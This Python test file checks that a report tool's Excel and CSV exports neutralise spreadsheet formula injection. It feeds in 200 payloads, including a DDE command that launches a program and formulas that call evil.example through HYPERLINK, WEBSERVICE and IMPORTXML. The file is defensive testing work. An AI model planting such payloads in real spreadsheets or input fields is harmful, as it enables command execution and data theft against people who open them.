"""Two hundred texts that a spreadsheet would run stand in it as texts."""

import csv
import io
import zipfile
from itertools import product

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from openpyxl import load_workbook

from writinggaps.findings import Finding
from writinggaps.report.faces import Figure, Prose, Table
from writinggaps.run.page import Heading
from writinggaps.run.workbook import workbook

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", '"=', "=-")
RESTS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example")',
    "1+1;@x",
    'IMPORTXML("http://evil.example","//a")',
    "DDE(0)",
    "[evil.xlsx]Sheet1!A1",
    "0,1",
    "A1&B1",
    "INFO(1)",
    "{1;2}",
    "x()",
    "1E5+1",
    "$A$1",
    "-1",
    "1=1",
    "'x'!A1",
    "RAND()",
)
PAYLOADS = [start + rest for start, rest in product(STARTS, RESTS)]


def hostile_table(text):
    return Table(caption=f"By {text}", columns=("class", text), rows=((text, text),), note=text)


def test_a_workbook_has_no_formula_no_link_and_nothing_from_outside():
    cells = [new_markdown_cell("# What is secure?")]
    for text in PAYLOADS:
        for face in (Prose(text), hostile_table(text)):
            output = new_output("display_data", data=face._repr_mimebundle_())
            cells.append(new_code_cell("", outputs=[output]))
    found = [Finding(question=text, group=text, sentence=text, n=30) for text in PAYLOADS]
    heading = Heading(PAYLOADS[0], "2025-26-autumn", "public")

    made = workbook(new_notebook(cells=cells), heading, found)

    book = load_workbook(io.BytesIO(made))
    everything = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
    assert len(everything) > 2000
    assert [c.value for c in everything if c.data_type == "f"] == []
    assert [c.hyperlink.target for c in everything if c.hyperlink and c.hyperlink.target] == []
    with zipfile.ZipFile(io.BytesIO(made)) as packed:
        names = packed.namelist()
        assert not any(b"<f>" in packed.read(name) for name in names)
    assert not any("external" in name.lower() for name in names)


def test_a_table_to_take_away_has_no_cell_that_begins_like_a_formula():
    for text in PAYLOADS:
        drawn = Figure(title="t", subtitle="s", alt="a", svg="<svg/>", data=hostile_table(text))
        rows = list(csv.reader(io.StringIO(drawn.data.csv, newline="")))
        cells = [cell for row in rows for cell in row]

        assert len(cells) >= 4
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
